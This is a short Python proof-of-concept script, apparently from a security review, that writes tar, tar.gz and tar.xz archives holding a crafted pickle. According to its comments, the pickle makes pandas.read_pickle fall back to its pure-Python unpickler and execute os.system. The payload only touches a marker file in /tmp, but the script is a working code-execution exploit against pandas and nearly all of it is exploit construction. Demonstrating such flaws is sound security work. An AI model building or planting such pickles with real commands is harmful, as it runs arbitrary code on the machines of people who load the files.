# pandas.read_pickle on a .tar (compression inferred from the name): pandas reads the tar's only
# member. The member is review putbig's `frame`: C pickle.load raises AttributeError at `N}b`, pandas
# retries with its pure-Python Unpickler, which stores PUT 99999999999999999999 and runs the payload.
import tarfile, io, os, gzip
here = os.path.dirname(os.path.abspath(__file__))
d = b"N}b0" + b"Np99999999999999999999\n0" + b"cos\nsystem\n(Vtouch /tmp/review39b/pwned_pandas_tar\ntR."
for name, mode in [("df.tar", "w"), ("df.tar.gz", "w:gz"), ("df.tar.xz", "w:xz")]:
    with tarfile.open(os.path.join(here, name), mode) as t:
        ti = tarfile.TarInfo("frame.pkl"); ti.size = len(d)
        t.addfile(ti, io.BytesIO(d))
